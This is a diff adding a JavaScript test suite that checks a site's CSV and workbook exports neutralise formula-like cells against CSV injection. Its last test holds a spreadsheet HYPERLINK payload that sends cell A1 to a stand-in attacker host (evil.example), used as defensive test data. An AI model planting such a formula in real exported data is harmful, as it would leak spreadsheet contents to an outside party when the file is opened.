@@ -1,0 +1,74 @@
+/**
+ * Every CSV and workbook the site writes is safe to open in a spreadsheet:
+ * a text that starts like a formula is neutralised, numbers stay numbers
+ * (OWASP, CSV injection).
+ */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { strFromU8, unzipSync } from 'fflate';
+import Papa from 'papaparse';
+import { describe, expect, inject, it } from 'vitest';
+import { csvLine, EXCEL, safeText } from '../src/lib/opendata/csv.ts';
+import { files } from './helpers/crawl.ts';
+import { FORMULA_NAME, FORMULA_TEXTS } from './helpers/independent.ts';
+
+const RUNS = /^[=+\-@\t\r]/;
+const NUMBER = /^[-+]?\d+([.,]\d+)?$/;
+
+describe('safeText and csvLine', () => {
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+7 (415) 123-45-67', "'+7 (415) 123-45-67"],
+    ['-Анализ', "'-Анализ"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tTAB', "'\tTAB"],
+    ['\rCR', "'\rCR"],
+    ['-1.25', '-1.25'],
+    ['+3', '+3'],
+    ['-0,50', '-0,50'],
+    ['1e3', '1e3'],
+    ['Школа № 1', 'Школа № 1'],
+    ['', ''],
+  ])('%j → %j', (input, output) => expect(safeText(input)).toBe(output));
+  it('quotes the neutralised cell where it must and leaves numbers alone in both dialects', () => {
+    expect(csvLine(['=HYPERLINK("x";"y")', -1.5, '-2.25'])).toBe(`"'=HYPERLINK(""x"";""y"")",-1.5,-2.25`);
+    expect(csvLine(['@a;b', '-2.25'], EXCEL, new Set([1]))).toBe(`"'@a;b";-2,25`);
+  });
+});
+
+/** Every cell of every CSV in a built site, ZIP packages included: [file, cell]. */
+function* csvCells(dist: string): Generator<[string, string]> {
+  const parse = (name: string, text: string) => {
+    const delimiter = name.endsWith('-excel.csv') ? ';' : ',';
+    return Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter }).data.flat();
+  };
+  for (const f of files(dist)) {
+    if (f.endsWith('.csv')) for (const c of parse(f, readFileSync(join(dist, f), 'utf8'))) yield [f, c];
+    if (f.endsWith('.zip'))
+      for (const [inner, bytes] of Object.entries(unzipSync(readFileSync(join(dist, f)))))
+        if (inner.endsWith('.csv')) for (const c of parse(inner, strFromU8(bytes))) yield [`${f}/${inner}`, c];
+  }
+}
+
+describe('the built site of a municipality whose school name and roadmap lines start like formulas', () => {
+  const dist = inject('subDist');
+  it('writes no CSV cell a spreadsheet would run, in open data, chart files and packages', () => {
+    const bad = [...csvCells(dist)].filter(([, c]) => RUNS.test(c) && !NUMBER.test(c));
+    expect(bad.slice(0, 10)).toEqual([]);
+  });
+  it('keeps the text itself, behind an apostrophe, in schools.csv and roadmap.csv', () => {
+    const schools = readFileSync(join(dist, 'opendata/schools.csv'), 'utf8');
+    expect(schools).toContain(`"'${FORMULA_NAME.replace(/"/g, '""')}"`);
+    const roadmap = readFileSync(join(dist, 'opendata/roadmap.csv'), 'utf8');
+    for (const t of FORMULA_TEXTS.slice(1, 3)) expect(roadmap).toContain(`'${t}`);
+  });
+  it('carries the name into at least one chart file, so the check above has something to check', () => {
+    const seen = [...csvCells(dist)].filter(([f, c]) => f.startsWith('charts/') && c === `'${FORMULA_NAME}`);
+    expect(seen.length).toBeGreaterThan(0);
+  });
+  it('still shows the name as written on the pages', () => {
+    expect(readFileSync(join(dist, 'schools/03/index.html'), 'utf8')).toContain(
+      '=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;СОШ № 3&quot;)',
+    );
+  });
+});
